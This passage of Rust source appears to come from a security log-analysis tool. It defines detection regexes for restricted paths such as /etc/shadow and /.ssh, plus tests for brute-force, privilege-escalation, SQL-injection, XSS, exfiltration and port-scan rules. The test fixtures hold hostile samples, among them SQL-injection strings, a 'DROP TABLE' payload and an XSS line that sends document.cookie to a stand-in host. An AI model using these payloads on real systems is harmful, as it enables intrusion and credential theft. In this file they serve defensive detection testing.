        r"(?i)(?:/admin(?:istrator)?\b|/wp-admin\b|/wp-login|/phpmyadmin\b|/etc/passwd\b|/etc/shadow\b|/root\b|/\.env\b|/\.git\b|/\.ssh\b|/server-status\b|/config\b|/internal\b|/private\b|/backup\w*\b|\brestricted\b|\bclassified\b|\bconfidential\b|\badmin\s+(?:panel|console|area)\b)",
    )
    .expect("regex")
});
static RE_DENIED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:unauthori[sz]ed|forbidden|access\s+denied|permission\s+denied|not\s+permitted|not\s+authori[sz]ed|disallowed|denied)\b|\s(?:401|403)\s|\bstatus[=:]\s*(?:401|403)\b",
    )
    .expect("regex")
});
static RE_ANONYMOUS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:anonymous|unauthenticated|guest|no\s+credentials|without\s+authentication|invalid\s+token|missing\s+token)\b",
    )
    .expect("regex")
});
static RE_GRANTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:granted|allowed|succeeded|successful)\b|\s200\s|\bstatus[=:]\s*200\b").expect("regex")
});
static RE_UNAUTHORIZED_PHRASE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\bunauthori[sz]ed\s+access\b").expect("regex"));

fn unauthorized_access(index: &BatchIndex<'_>, _tuning: &RuleTuning) -> Option<Evidence> {
    let mut lines: Vec<&LineRecord<'_>> = Vec::new();
    let mut anonymous = false;
    let mut breached = false;

    for line in &index.lines {
        let restricted = RE_RESTRICTED.is_match(line.raw);
        let anon = RE_ANONYMOUS.is_match(line.raw);
        let qualifies = (restricted && (RE_DENIED.is_match(line.raw) || anon))
            || RE_UNAUTHORIZED_PHRASE.is_match(line.raw);
        if !qualifies {
            continue;
        }
        anonymous |= anon;
        if restricted && anon && RE_GRANTED.is_match(line.raw) {
            breached = true;
        }
        lines.push(line);
    }
    if lines.is_empty() {
        return None;
    }

    let mut confidence = scaled(0.5, 0.07, lines.len() - 1);
    if anonymous {
        confidence += 0.1;
    }
    if breached {
        confidence += 0.1;
    }

    let mut resources = Vec::new();
    collect_ips(&lines, &mut resources);
    for line in &lines {
        for user in &line.entities.usernames {
            push_unique(&mut resources, user);
        }
    }

    let mut detail = format!("{} to restricted resources", plural(lines.len(), "access attempt"));
    if breached {
        detail.push_str("; at least one unauthenticated request succeeded");
    }

    Some(Evidence {
        severity: if breached || lines.len() >= 5 { ThreatLevel::High } else { ThreatLevel::Medium },
        confidence: confidence.min(MAX_RULE_CONFIDENCE),
        resources,
        hits: lines.len(),
        detail,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(kind: AnomalyType, text: &str) -> Option<Finding> {
        let index = BatchIndex::build(text);
        rule_for(kind).evaluate(&index, &RuleTuning::default())
    }

    const BRUTE: &str = "10:24:12 WARN Failed login root from 203.0.113.45\n\
        10:24:15 WARN Failed login root from 203.0.113.45\n\
        10:24:18 WARN Failed login root from 203.0.113.45\n\
        10:24:22 ERROR Failed login root from 203.0.113.45 - Account locked";

    #[test]
    fn test_catalog_matches_type_order() {
        for (rule, kind) in CATALOG.iter().zip(AnomalyType::ALL) {
            assert_eq!(rule.kind, kind);
        }
    }

    #[test]
    fn test_brute_force_example() {
        let f = run(AnomalyType::BruteForce, BRUTE).unwrap();
        assert_eq!(f.affected_resources, vec!["203.0.113.45"]);
        assert!(f.severity >= ThreatLevel::High);
        assert!(f.confidence > 0.8 && f.confidence <= MAX_RULE_CONFIDENCE);
        assert!(f.description.contains("lockout"));
    }

    #[test]
    fn test_only_this_rule_fires_on_brute_force_example() {
        let index = BatchIndex::build(BRUTE);
        let findings = evaluate_all(&index, &RuleTuning::default());
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].kind, AnomalyType::BruteForce);
    }

    #[test]
    fn test_brute_force_blames_the_source_not_the_target() {
        let text = "Failed login for admin on 10.0.0.5 from 203.0.113.9\n".repeat(5);
        let f = run(AnomalyType::BruteForce, &text).unwrap();
        assert_eq!(f.affected_resources, vec!["203.0.113.9"]);
    }

    #[test]
    fn test_brute_force_joins_ipless_lines_to_the_attacker() {
        let text = "Failed password for alice from 198.51.100.4\n\
                    pam_unix(sshd:auth): authentication failure; user=alice\n\
                    Failed password for alice from 198.51.100.4\n\
                    pam_unix(sshd:auth): authentication failure; user=alice";
        let f = run(AnomalyType::BruteForce, text).unwrap();
        assert_eq!(f.affected_resources, vec!["198.51.100.4"]);
        assert!(f.description.starts_with("Brute force attack detected: 4 failed"));
    }

    #[test]
    fn test_brute_force_reports_time_span() {
        let f = run(AnomalyType::BruteForce, BRUTE).unwrap();
        assert!(f.description.contains("between 10:24:12 and 10:24:22"));
    }

    #[test]
    fn test_brute_force_below_threshold_is_silent() {
        let text = "Failed password for root from 10.1.1.1 port 50000 ssh2\n\
                    Failed password for root from 10.1.1.1 port 50001 ssh2";
        assert!(run(AnomalyType::BruteForce, text).is_none());
    }

    #[test]
    fn test_brute_force_confidence_grows_with_repetition() {
        let few = "Failed password for admin from 10.1.1.1\n".repeat(3);
        let many = "Failed password for admin from 10.1.1.1\n".repeat(8);
        let a = run(AnomalyType::BruteForce, &few).unwrap();
        let b = run(AnomalyType::BruteForce, &many).unwrap();
        assert!(b.confidence > a.confidence);
        assert!(b.confidence <= 1.0);
    }

    #[test]
    fn test_brute_force_success_after_failures_is_critical() {
        let mut text = "Failed password for admin from 198.51.100.9\n".repeat(4);
        text.push_str("Accepted password for admin from 198.51.100.9 port 4022 ssh2\n");
        let f = run(AnomalyType::BruteForce, &text).unwrap();
        assert_eq!(f.severity, ThreatLevel::Critical);
    }

    #[test]
    fn test_privilege_escalation_after_user_session() {
        let text = "Feb 1 10:00:01 web sshd[1]: Accepted publickey for deploy from 10.0.0.8 port 5122 ssh2\n\
                    Feb 1 10:00:09 web bash[2]: deploy ran sudo su -\n\
                    Feb 1 10:00:12 web bash[2]: cat /etc/shadow";
        let f = run(AnomalyType::PrivilegeEscalation, text).unwrap();
        assert_eq!(f.severity, ThreatLevel::Critical);
        assert_eq!(f.affected_resources[0], "deploy");
        assert!(f.affected_resources.contains(&"10.0.0.8".to_string()));
    }

    #[test]
    fn test_privilege_escalation_by_root_session_is_ignored() {
        let text = "session opened for user root by (uid=0)\nroot ran sudo -i";
        let f = run(AnomalyType::PrivilegeEscalation, text);
        // uid=0 on the session line is itself an unattributed marker
        assert!(f.map_or(true, |f| f.severity == ThreatLevel::Medium));
    }

    #[test]
    fn test_sql_injection_requires_request_context() {
        let text = "10.9.9.9 - - \"GET /items?id=1' OR '1'='1 HTTP/1.1\" 200 512\n\
                    10.9.9.9 - - \"GET /items?id=1 UNION SELECT password FROM users HTTP/1.1\" 200 88";
        let f = run(AnomalyType::SqlInjection, text).unwrap();
        assert_eq!(f.severity, ThreatLevel::High);
        assert_eq!(f.affected_resources, vec!["10.9.9.9"]);
        assert!(f.description.contains("UNION SELECT"));

        assert!(run(AnomalyType::SqlInjection, "note: or 1=1 seen in docs").is_none());
    }

    #[test]
    fn test_sql_injection_destructive_is_critical() {
        let text = "POST /login user=admin';DROP TABLE users;-- from 203.0.113.7";
        let f = run(AnomalyType::SqlInjection, text).unwrap();
        assert_eq!(f.severity, ThreatLevel::Critical);
    }

    #[test]
    fn test_xss_cookie_theft_is_high() {
        let text = "GET /search?q=<script>fetch('//x.example.net/'+document.cookie)</script> from 192.0.2.44";
        let f = run(AnomalyType::Xss, text).unwrap();
        assert_eq!(f.severity, ThreatLevel::High);
        assert!(f.affected_resources.contains(&"192.0.2.44".to_string()));
    }

    #[test]
    fn test_exfiltration_to_suspicious_port() {
        let text = "2026-02-01 10:26:33 CRITICAL Unusual outbound traffic detected to 198.51.100.77:4444";
        let f = run(AnomalyType::DataExfiltration, text).unwrap();
        assert_eq!(f.severity, ThreatLevel::Critical);
        assert_eq!(f.affected_resources, vec!["198.51.100.77"]);
    }

    #[test]
    fn test_exfiltration_needs_a_signal() {
        assert!(run(AnomalyType::DataExfiltration, "sent 12 KB report to 10.0.0.2").is_none());
        let f = run(
            AnomalyType::DataExfiltration,
            "host 10.0.0.5 uploaded 2.5 GB to 203.0.113.200",
        )
        .unwrap();
        assert_eq!(f.severity, ThreatLevel::High);
        assert!(f.description.contains("2.5 GB"));
    }

    #[test]
    fn test_malware_family_is_critical() {
        let f = run(
            AnomalyType::Malware,
            "EDR: ransomware behaviour on host=fs01.corp.example.com",
        )
        .unwrap();
        assert_eq!(f.severity, ThreatLevel::Critical);
        assert_eq!(f.affected_resources, vec!["fs01.corp.example.com"]);
    }

    #[test]
    fn test_port_scan_sequential_probe() {
        let text: String = (20..30)
            .map(|p| format!("kernel: DROP SRC=45.33.32.156 DST=10.0.0.5 PROTO=TCP SPT=40000 DPT={p}\n"))
            .collect();
        let f = run(AnomalyType::PortScan, &text).unwrap();
        assert_eq!(f.affected_resources, vec!["45.33.32.156"]);
        assert!(f.description.contains("sequential"));
    }

    #[test]
    fn test_ssh_client_ports_are_not_a_scan() {
        let text: String = (0..8)
            .map(|i| format!("Failed password for bob from 10.0.0.7 port {} ssh2\n", 41000 + i))
            .collect();
        assert!(run(AnomalyType::PortScan, &text).is_none());
    }

    #[test]
    fn test_unauthorized_access_to_admin() {
        let text = "203.0.113.9 - - \"GET /admin HTTP/1.1\" 403 199\n\
                    anonymous request to /etc/passwd granted from 203.0.113.10";
        let f = run(AnomalyType::UnauthorizedAccess, text).unwrap();
        assert_eq!(f.severity, ThreatLevel::High);
        assert_eq!(f.affected_resources, vec!["203.0.113.9", "203.0.113.10"]);
    }

    #[test]
    fn test_no_rule_fires_on_benign_log() {
        let text = "2026-02-01 10:23:45 INFO User admin logged in from 192.168.1.100\n\
                    2026-02-01 10:25:01 INFO Database backup completed successfully";
        let index = BatchIndex::build(text);
        assert!(evaluate_all(&index, &RuleTuning::default()).is_empty());
    }

    #[test]
    fn test_longest_run() {
        assert_eq!(longest_consecutive_run(&[80, 22, 23, 24, 443]), 3);
        assert_eq!(longest_consecutive_run(&[]), 0);
        assert_eq!(longest_consecutive_run(&[7]), 1);
    }
}
